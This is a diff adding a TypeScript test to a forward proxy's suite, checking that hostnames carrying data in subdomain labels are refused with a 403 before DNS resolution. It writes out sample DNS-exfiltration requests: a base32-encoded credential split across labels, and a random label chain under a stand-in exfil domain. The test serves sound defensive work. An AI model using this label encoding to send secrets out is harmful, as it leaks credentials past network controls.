@@ -341,3 +341,29 @@ describe('the proxy dials the address core checked (DNS rebinding)', () => {
     }
   });
 });
+
+describe('data in subdomain labels is refused before the name is resolved', () => {
+  it('a base32 payload or a random label chain gets 403 and no DNS lookup', async () => {
+    const lookups: string[] = [];
+    const p = await startTestProxy(testConfig(), {
+      resolve: async (host) => {
+        lookups.push(host);
+        return ['93.184.215.14'];
+      },
+    });
+    try {
+      // base32 of 'user=svc pass=Tr0ub4dor&3x', in two labels.
+      const encoded = 'ovzwk4r5on3ggidqmfzxgpkuoiyhkyrumrxxejrtpa';
+      const host = `${encoded.slice(0, 24)}.${encoded.slice(24)}.resolver-cache.test`;
+      const a = await curl(['-x', p.url, `http://${host}/`]);
+      expect(a.status).toBe(403);
+      expect(JSON.parse(a.body)).toMatchObject({ rule: 'Encoded Data In Hostname' });
+      const b = await curl(['-x', p.url, 'http://k7x2m9qa4w.b3n8v1zp6c.r5t8y2u3i0.h3g2f1d8s7.q.exfil-dns.test/']);
+      expect(b.status).toBe(403);
+      expect(JSON.parse(b.body)).toMatchObject({ rule: 'Data In Hostname Labels' });
+      expect(lookups).toEqual([]);
+    } finally {
+      await p.proxy.close();
+    }
+  });
+});
